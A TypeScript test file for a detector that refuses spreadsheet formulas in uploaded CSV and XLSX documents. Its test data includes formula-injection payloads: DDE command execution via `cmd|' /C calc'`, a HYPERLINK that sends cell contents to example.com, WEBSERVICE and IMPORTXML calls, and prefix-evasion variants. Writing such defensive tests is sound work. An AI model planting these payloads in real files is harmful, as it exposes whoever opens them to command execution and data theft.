import { readsAsFormula } from "../../../../functions/rfp-api/shared/formula";
import { readDocument } from "../../../../functions/rfp-api/preprocess/document/read";
import { workbook } from "../../../support/spreadsheets";

/** What Excel, LibreOffice or Google Sheets would compute, or ask somebody else for. */
const FORMULAS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.com?x="&A1,"click")',
  "= SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  "  =1+1",
  "\u00a0=1+1",
  "\uff1d1+1",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!D2",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "@SUM(1,2)",
  "+SUM(A1:A3)",
  "-IMPORTXML(CONCAT(A1),B1)",
  "- SUM(A1)",
  '+1+WEBSERVICE("http://example.com")',
  '-1;HYPERLINK("x")',
  "+'\\\\host\\[book.xlsx]Sheet1'!A1",
  "\uff0bSUM(A1)",
  "\uff20SUM(A1)",
  "\n+SUM(A1)",
];

const TEXTS = [
  "- single sign-on",
  "- bullet (see annex)",
  "-5",
  "-5 %",
  "+49 30 123456-78",
  "+1 (555) 123-4567",
  "+/- 5 mm",
  "-- none --",
  "@ noon",
  "@acme on the forum",
  "- A1 is our rating",
  "-",
  "+",
  "",
  "a=b",
  "Is x = SUM(A1)?",
  "'=1+1",
  "(=SUM(A1))",
  "1-SUM(A1)",
  "- what! and | why",
  "-10°C to +40°C",
];

test.each(FORMULAS)("%j is a formula", (text) => {
  expect(readsAsFormula(text)).toBe(true);
});

test.each(TEXTS)("%j is text", (text) => {
  expect(readsAsFormula(text)).toBe(false);
});

test.each(["=1+1", "+SUM(A1)", "@SUM(1)", "-1+cmd|'/C calc'!A0"])(
  "%j is refused in CSV, with its place",
  async (text) => {
    const document = Buffer.from(`No,Question\n1,Why?\n2,"${text}"\n`);
    await expect(readDocument("rfp.csv", document)).rejects.toThrow(
      "Row 3, column 2 reads as a formula, which a spreadsheet program would compute. " +
        "Documents hold text and numbers alone: put the formula's value there, or words before it.",
    );
  },
);

test("a text that reads as a formula is refused in a workbook, with its place", async () => {
  const document = workbook([{ rows: [["Why?"]] }, { name: "Part 2", rows: [[], [undefined, "=1+1"]] }]);
  await expect(readDocument("rfp.xlsx", document)).rejects.toThrow('Sheet "Part 2", cell B2 reads as a formula');
});

test.each([
  ["a formula with its value", "<f>SUM(A1:A2)</f><v>3</v>"],
  ["a formula without", "<f>WEBSERVICE(A1)</f>"],
  ["a shared formula", '<f t="shared" si="0"/><v>1</v>'],
  ["a formula of a matrix", '<f t="array" ref="A1">A1:A2</f><v>1</v>'],
  ["a formula with a prefix", '<x:f xmlns:x="urn:x">A1</x:f><v>1</v>'],
])("a cell with %s is refused, and the reason quotes nothing of it", async (_, xml) => {
  const document = workbook([{ name: "Q", rows: [["Why?"], [undefined, { xml }]] }]);
  await expect(readDocument("rfp.xlsx", document)).rejects.toThrow(
    'Sheet "Q", cell B2 holds a formula. Documents hold text and numbers alone: copy the cells and paste them as values.',
  );
});

test("negative numbers and bullets are read in both kinds of document", async () => {
  const rows = [["- bullet", "-5"]];
  expect((await readDocument("rfp.csv", Buffer.from("- bullet,-5")))[0]?.rows).toEqual(rows);
  expect((await readDocument("rfp.xlsx", workbook([{ rows: [["- bullet", -5]] }])))[0]?.rows).toEqual(rows);
});

test("formulas of rules for formats and lists are no cells", async () => {
  const content =
    '<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Why?</t></is></c></row></sheetData>' +
    '<conditionalFormatting sqref="A1"><cfRule><formula>A1=1</formula></cfRule></conditionalFormatting>' +
    '<extLst><ext xmlns:xm="urn:xm"><xm:f>Lists!A1:A3</xm:f></ext></extLst></worksheet>';
  const document = workbook([{ rows: [] }], [{ name: "xl/worksheets/sheet1.xml", content }]);
  expect((await readDocument("rfp.xlsx", document))[0]?.rows).toEqual([["Why?"]]);
});
